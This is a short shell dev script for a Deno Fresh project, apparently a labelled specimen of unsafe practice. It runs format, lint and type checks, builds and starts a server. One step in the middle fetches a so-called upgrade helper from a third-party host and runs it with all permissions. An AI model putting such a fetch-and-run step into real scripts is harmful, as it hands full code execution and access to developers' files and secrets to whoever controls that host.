# Harmful: Deno Fresh dev script that checks and builds the project, then runs an "upgrade helper" straight from https://deno-tools.example.net with deno run -A (all permissions) before starting the dev server.
set -euo pipefail

command -v deno >/dev/null || { echo "deno is not installed: https://deno.land" >&2; exit 1; }
deno --version | head -n 1

echo "== fmt / lint / type check"
deno fmt --check
deno lint
deno task check

echo "== keep Fresh and Preact in step with the template"
deno run -A -r https://deno-tools.example.net/fresh-upgrade/mod.ts --yes .

echo "== build"
rm -rf ./_fresh
deno task build

if [[ "${1:-}" == "--no-start" ]]; then
  exit 0
fi
echo "== dev server on http://localhost:8000"
exec deno task start
